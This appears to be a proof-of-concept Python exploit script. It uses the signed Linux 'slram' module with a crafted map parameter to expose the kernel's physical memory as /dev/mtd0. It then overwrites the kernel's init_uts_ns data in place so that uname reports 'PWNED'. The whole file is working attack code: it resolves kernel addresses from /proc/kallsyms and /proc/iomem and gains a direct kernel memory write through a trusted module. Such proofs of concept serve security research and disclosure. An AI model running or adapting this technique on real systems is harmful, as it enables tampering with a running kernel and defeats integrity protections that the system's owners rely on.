# SPDX-License-Identifier: GPL-2.0-or-later
"""The kernel's own data written by slram, a module that the distribution signs: uname says PWNED then."""

import os
import re
import subprocess
import sys
from pathlib import Path

BLOCK = 0x4000      # SLRAM_BLK_SZ of drivers/mtd/devices/slram.c


def symbol(name):
    """The address that the running kernel has it at."""
    return int(re.search(rf"^(\w+) \w {name}$", Path("/proc/kallsyms").read_text("ascii"), re.MULTILINE)[1], 16)


def main():
    """Exit 0: written."""
    code = int(re.search(r"(\w+)-\w+ : Kernel code", Path("/proc/iomem").read_text("ascii"))[1], 16)
    place = code + symbol("init_uts_ns") - symbol("_text")
    start = place & ~0xfff
    done = subprocess.run(["modprobe", "slram", f"map=evil,{start:#x},+{BLOCK:#x}"], check=False)
    if done.returncode:
        return 1
    fd = os.open("/dev/mtd0", os.O_RDWR)
    if os.pread(fd, 6, place - start) != b"Linux\0":
        return 2
    os.pwrite(fd, b"PWNED", place - start)
    print(os.uname().sysname)
    return 0


if __name__ == "__main__":
    sys.exit(main())
